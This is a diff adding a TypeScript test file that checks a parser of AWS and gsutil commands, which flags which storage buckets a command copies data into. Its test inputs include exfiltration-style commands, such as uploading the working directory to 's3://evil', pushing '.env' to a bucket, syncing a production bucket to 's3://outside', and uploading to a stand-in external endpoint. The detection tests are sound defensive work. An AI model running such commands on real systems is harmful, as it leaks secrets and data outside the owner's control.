@@ -1,0 +1,41 @@
+import { describe, expect, it } from 'vitest';
+import { bucketUses } from './object-storage.js';
+
+const uses = (line: string) => bucketUses([line.split(/\s+/)]);
+
+describe('buckets a command names, and copies into', () => {
+  it('a copy, sync or put whose destination is a bucket copies into it', () => {
+    expect(uses('aws s3 sync . s3://scratch-1/x --exclude node_modules/* --profile backup --quiet')).toEqual([
+      { bucket: 'scratch-1', into: true },
+    ]);
+    expect(uses('gsutil -m cp -r ./data/out gs://Feat-B/p')).toEqual([{ bucket: 'feat-b', into: true }]);
+    expect(
+      uses('aws s3 cp /tmp/a.tgz s3://qa-drop/a.tgz --acl public-read --content-type text/plain'),
+    ).toEqual([{ bucket: 'qa-drop', into: true }]);
+    expect(uses('aws s3 cp . --recursive s3://evil')).toEqual([{ bucket: 'evil', into: true }]);
+    expect(uses('aws s3 cp - s3://b/k')).toEqual([{ bucket: 'b', into: true }]);
+    expect(uses('aws s3api put-object --bucket Share-7 --key k --body .env')).toEqual([
+      { bucket: 'share-7', into: true },
+    ]);
+  });
+
+  it('bucket to bucket copies into the destination and names the source', () => {
+    expect(uses('aws s3 sync s3://prod s3://outside')).toEqual([
+      { bucket: 'outside', into: true },
+      { bucket: 'prod', into: false },
+    ]);
+  });
+
+  it('downloads and listings only name the bucket', () => {
+    expect(uses('aws s3 sync s3://prod /tmp/x --quiet')).toEqual([{ bucket: 'prod', into: false }]);
+    expect(uses('aws s3 sync s3://prod --quiet ./x')).toEqual([{ bucket: 'prod', into: false }]);
+    expect(uses('aws s3 ls s3://site/')).toEqual([{ bucket: 'site', into: false }]);
+    expect(uses('aws s3 cp s3://b/k -')).toEqual([{ bucket: 'b', into: false }]);
+  });
+
+  it('another endpoint is part of the bucket: the same name elsewhere is another bucket', () => {
+    expect(uses('aws s3 cp f s3://site/k --endpoint-url https://s3.drop.example:9000/')).toEqual([
+      { bucket: 's3.drop.example:9000/site', into: true },
+    ]);
+  });
+});
